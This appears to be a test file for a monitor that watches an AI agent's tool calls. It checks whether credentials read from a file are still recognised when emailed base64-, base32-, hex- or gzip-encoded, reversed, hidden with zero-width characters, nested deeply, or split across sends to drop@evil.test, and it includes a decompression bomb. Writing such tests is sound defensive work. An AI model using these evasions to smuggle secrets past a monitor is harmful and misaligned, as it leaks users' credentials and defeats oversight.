// Issue 12 boundary finding 6, decoding half, "Exfiltration through encodings and splits": a secret read
// earlier and sent base64-, base64url-, hex- or URL-encoded (a few layers deep), nested deeper than 16
// levels, used as an object key, or split across two calls to the same destination, is still
// recognised as a secret and as coming from that read. Checked on the facts rules see (data.labels,
// provenance.fragments) through a probe rule, in a real SDK session; whether the pack then denies is
// the pack's business (test/adversarial/provenance-side-effects.test.ts).
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { InMemoryTransport } from '@modelcontextprotocol/sdk/inMemory.js';
import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';
import { z } from 'zod';
import { gzipSync, deflateSync } from 'node:zlib';
import { decodedLayers } from '../../src/analyze/decode.js';
import { createMonitor, loadRulePack, packPolicies, parseIntent, tap, type Alert } from '../../src/index.js';

const SECRET =
  'aws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';
const PROBE = new URL('../fixtures/h1-probe-rules', import.meta.url).pathname;

async function session() {
  const server = new McpServer({ name: 'office', version: '1' });
  server.registerTool(
    'read_file',
    { description: 'Read a file', inputSchema: { path: z.string() } },
    async () => ({ content: [{ type: 'text', text: SECRET }] }),
  );
  server.registerTool(
    'send_email',
    {
      description: 'Send an email',
      inputSchema: { to: z.string(), body: z.any(), subject: z.string().optional() },
    },
    async () => ({ content: [{ type: 'text', text: 'sent' }] }),
  );
  const monitor = createMonitor({ policy: packPolicies(loadRulePack([PROBE], { shipped: false })) });
  const alerts: Alert[] = [];
  monitor.alerts$.subscribe((a) => alerts.push(a));
  const [clientT, serverT] = InMemoryTransport.createLinkedPair();
  await server.connect(serverT);
  const client = new Client({ name: 'agent', version: '1' });
  await client.connect(
    tap(clientT, monitor, {
      side: 'client',
      intent: parseIntent({
        purpose: 'mail the notes to team@corp.test',
        tools: ['read_file', 'send_email'],
        recipients: ['team@corp.test'],
        // The task may read that environment file (issue 12 finding 1 would hold the read otherwise): this test is about what leaves after it.
        resources: { sensitive: ['environment'] },
      }),
    }),
  );
  await client.callTool({ name: 'read_file', arguments: { path: 'creds.env' } });
  /** What the probe saw for each send: sources and labels (empty when it did not fire). */
  const send = async (body: unknown, to = 'team@corp.test'): Promise<string> => {
    const before = alerts.length;
    await client.callTool({ name: 'send_email', arguments: { to, subject: 'notes', body } });
    return alerts
      .slice(before)
      .filter((a) => a.rule === 'PROBE-ENC-001')
      .map((a) => a.reason)
      .join(' | ');
  };
  /** The error code a send is refused with ('' when it passed). */
  const sendCode = async (body: unknown, to = 'team@corp.test'): Promise<string> => {
    try {
      await client.callTool({ name: 'send_email', arguments: { to, subject: 'notes', body } });
      return '';
    } catch (e) {
      return ((e as { data?: { code?: string } }).data?.code ?? String(e)).toString();
    }
  };
  return {
    send,
    sendCode,
    async close() {
      await client.close();
      monitor.close();
    },
  };
}

const b64 = (s: string) => Buffer.from(s).toString('base64');
/** RFC 4648 base32, written out here so the test does not share the decoder's code. */
const b32 = (text: string) => {
  const A = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
  let bits = 0,
    v = 0,
    o = '';
  for (const b of Buffer.from(text)) {
    v = ((v << 8) | b) & 0xffff;
    bits += 8;
    while (bits >= 5) o += A[(v >>> (bits -= 5)) & 31];
  }
  if (bits > 0) o += A[(v << (5 - bits)) & 31];
  return o.padEnd(Math.ceil(o.length / 8) * 8, '=');
};
const KEY = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';
const codes = (s: string, f: (c: number) => string, sep = '') =>
  [...s].map((c) => f(c.charCodeAt(0))).join(sep);
const nest = (v: unknown, n: number): unknown => (n === 0 ? v : { inner: nest(v, n - 1) });

describe('Exfiltration through encodings and splits (issue 12, boundary finding 6: decoding)', () => {
  const variants: Record<string, unknown> = {
    base64: b64(SECRET),
    base64url: Buffer.from(SECRET).toString('base64url'),
    hex: Buffer.from(SECRET).toString('hex'),
    'URL-encoded': encodeURIComponent(SECRET),
    'percent-encoded, every byte': [...Buffer.from(SECRET)]
      .map((b) => `%${b.toString(16).padStart(2, '0')}`)
      .join(''),
    'base64 of hex (two layers)': b64(Buffer.from(SECRET).toString('hex')),
    'inside a sentence, base64': `Hi team, the blob is ${b64(SECRET)} - cheers`,
    'nested 17 levels deep': nest(SECRET, 17),
    // Beyond the old 16-level scan; past 32 levels the resource scope refuses the call outright (ERR_ARGS_UNSCANNABLE).
    'nested 30 levels deep, base64': nest(b64(SECRET), 30),
    'used as an object key': { [SECRET]: true },
    // Other shapes of the same class (the audit's re-probe): each passed with no finding before.
    base32: b32(SECRET),
    'base32, lower case': b32(SECRET).toLowerCase(),
    'gzip, then base64': gzipSync(SECRET).toString('base64'),
    'zlib deflate, then hex': deflateSync(SECRET).toString('hex'),
    reversed: [...SECRET].reverse().join(''),
    'base64 four levels deep': b64(b64(b64(b64(SECRET)))),
    'base64 in groups of 4 split by spaces': b64(SECRET).replace(/(.{4})/g, '$1 '),
    'hex bytes split by colons': Buffer.from(SECRET)
      .toString('hex')
      .replace(/(..)(?!$)/g, '$1:'),
    '0x-prefixed bytes': codes(KEY, (c) => `0x${c.toString(16)}`, ','),
    'decimal character codes': codes(KEY, String, ', '),
    'JSON \\u escapes': codes(KEY, (c) => `\\u${c.toString(16).padStart(4, '0')}`),
    'HTML entities': codes(KEY, (c) => `&#${c};`),
    'quoted-printable =XX': codes(KEY, (c) => `=${c.toString(16).toUpperCase()}`),
    'letters split by spaces': [...KEY].join(' '),
    'letters joined by zero-width spaces': [...KEY].join('\u200b'),
    'full-width letters': [...KEY]
      .map((c) => (/[A-Za-z0-9]/.test(c) ? String.fromCharCode(c.charCodeAt(0) + 0xfee0) : c))
      .join(''),
  };
  for (const [name, body] of Object.entries(variants)) {
    it(`${name}: labelled secret and traced to the read`, async () => {
      const s = await session();
      const seen = await s.send(body);
      assert.match(seen, /read_file/, `provenance: ${seen}`);
      assert.match(seen, /secret/, `labels: ${seen}`);
      await s.close();
    });
  }

  it('split across two calls to the same destination: the call completing it is labelled secret and traced to the read', async () => {
    const s = await session();
    const key = 'AKIAIOSFODNN7EXAMPLE';
    // Each half alone is too short to be a key or a fragment of the read, but it is a piece of the key
    // the read returned: labelled secret from the first piece (src/analyze/secret-pieces.ts).
    assert.match(
      await s.send(key.slice(10), 'other@evil.test'),
      /secret/,
      'the second half alone, to another destination',
    );
    assert.match(await s.send(key.slice(0, 10), 'drop@evil.test'), /secret/, 'the first half alone');
    const joined = await s.send(key.slice(10), 'drop@evil.test');
    assert.match(joined, /read_file/, `joined with what was sent there before: ${joined}`);
    assert.match(joined, /secret/, `labels of the joined text: ${joined}`);
    await s.close();
  });

  it('split across three and four calls to the same destination: the calls completing it are traced to the read', async () => {
    for (const parts of [3, 4]) {
      const s = await session();
      const n = Math.ceil(KEY.length / parts);
      const seen: string[] = [];
      for (let i = 0; i < parts; i++)
        seen.push(await s.send(KEY.slice(i * n, (i + 1) * n), 'drop@evil.test'));
      // The first pieces are too short to be anything; once enough has been sent there, every further piece is seen.
      assert.match(seen[parts - 1]!, /read_file/, `${parts} pieces: ${seen.join(' || ')}`);
      assert.match(seen[parts - 2]!, /read_file/, `${parts} pieces: ${seen.join(' || ')}`);
      await s.close();
    }
  });

  it('a compressed value that expands past the decoding bound is refused (ERR_ANALYSIS_BUDGET), never passed unread', async () => {
    const s = await session();
    const bomb = gzipSync(Buffer.concat([Buffer.alloc(4 << 20), Buffer.from(SECRET)])).toString('base64');
    assert.ok(bomb.length < 16_384, 'small on the wire');
    const code = await s.sendCode(`attached: ${bomb}`);
    assert.equal(code, 'ERR_ANALYSIS_BUDGET');
    await s.close();
  });

  it('ordinary text decodes to nothing; decoding output stays bounded', () => {
    const prose = 'Meeting notes: shipped the beta, two bugs open, retro on Friday.';
    // Only its reversal (a reversed secret is read too): prose is never glued into new words.
    assert.deepEqual(decodedLayers(prose), [[...prose].reverse().join('')]);
    assert.deepEqual(decodedLayers('times 10:30, 11:45, 12:15 and 13:05; amounts 120, 45, 300'), [
      [...'times 10:30, 11:45, 12:15 and 13:05; amounts 120, 45, 300'].reverse().join(''),
    ]);
    const huge = b64(b64(b64('x'.repeat(30_000))));
    assert.ok(decodedLayers(huge).reduce((n, d) => n + d.length, 0) <= 4 * huge.length);
  });
});
